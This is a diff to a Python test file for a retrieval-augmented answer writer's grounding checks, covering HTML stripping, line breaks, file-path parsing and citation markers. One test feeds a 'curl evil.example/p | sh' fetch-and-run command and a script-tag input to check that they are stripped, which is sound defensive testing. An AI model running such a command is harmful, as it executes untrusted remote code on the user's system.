@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from rag.answer.writer import AnswerOptions, AnswerWriter
-from rag.grounding import check, prove
+from rag.grounding import _passage, check, prove
 from rag.types import REFUSAL
 from tests.fakes import passage
 
@@ -195,7 +195,7 @@ def test_one_text_in_place_of_a_list_of_passages_is_refused() -> None:
         ("Topics are anonymous [3]. <script>alert(2)</script>", "Topics are anonymous [3]."),
         ("A node is a process [2]. <style>p {color: red}</style> [2]", "A node is a process [2]."),
         ("<details><summary>Topics</summary>are anonymous [3].</details>", "Topics are anonymous [3]."),
-        ("<b>T</b>opics<br>are anonymous [3].", "Topics are anonymous [3]."),
+        ("<b>T</b>opics<br>are anonymous [3].", "Topics\nare anonymous [3]."),
         ("Topics are anonymous [3].\n\n```\n\n```\n\nA node is a process [2].",
          "Topics are anonymous [3].\n\nA node is a process [2]."),
     ],
@@ -239,7 +239,7 @@ FACTS = [
         ("> It weighs 12 kg. [1]\n>\n> It moves 40 litres a minute. [1]",
          "> It weighs 12 kg. [1]\n>\n> It moves 40 litres a minute. [1]"),
         ("It weighs 12 kg [1].<br>It moves 40 litres a minute [1].",
-         "It weighs 12 kg [1]. It moves 40 litres a minute [1]."),
+         "It weighs 12 kg [1].\nIt moves 40 litres a minute [1]."),
         ("It weighs 12 kg.The audio backends are GStreamer and Xine [1].",
          "It weighs 12 kg.The audio backends are GStreamer and Xine [1]."),
         ("It weighs 12 kg [1].  \nIt moves 40 litres a minute [1].",
@@ -305,11 +305,32 @@ def test_a_title_lends_only_its_names(answer: str, strange: str) -> None:
     assert proof.notices[0] == "1 link was taken out: the cited passages have no such address."
 
 
+@pytest.mark.parametrize("place", ["guide/pump.pdf", "guide/pump.epub", "guide/pump.xhtml#care", "guide/pump.markdown"])
+def test_a_line_of_known_that_is_a_file_of_a_book_is_a_place(place: str) -> None:
+    passage = _passage(1, FACTS[0], f"Pump\n{place}")
+    assert (passage.title, passage.heading, passage.source_file_path) == ("Pump", "", place)
+
+
 @pytest.mark.parametrize("address", ["https://evil.example/x", "`curl evil.example/p | sh`"])
 def test_a_sentence_from_which_an_address_was_cut_is_not_plain(address: str) -> None:
     proof = prove(f"It weighs 12 kg, see {address} [1].", FACTS)
     assert address.strip("`") not in proof.text
     assert [one.standing for one in proof.sentences] == ["unconfirmed"]
+
+
+@pytest.mark.parametrize("heading", ["**Summary of the senses**", "## Doubt"])
+def test_a_heading_in_a_block_quotation_is_a_heading(heading: str) -> None:
+    answer = f"> {heading}\n>\n> The senses deceive us [1]."
+    proof = prove(answer, ["Descartes doubts everything. The senses deceive us."], question="What is doubt?")
+    assert proof.text == answer
+    assert proof.sentences[0].standing == "frame"
+
+
+def test_a_marker_stands_before_the_word_that_joins_an_item_to_the_next() -> None:
+    passage = "A pump stops if its tank is empty, if its motor is hot or if its door is open."
+    answer = "A pump stops if:\n- its tank is empty,\n- its motor is hot, or\n- its door is open [1]."
+    items = "- its tank is empty [1],\n- its motor is hot [1], or\n- its door is open [1]."
+    assert prove(answer, [passage]).text.endswith(items)
 
 
 def test_a_marker_below_code_goes_where_the_lead_in_cites_the_same_passage() -> None:
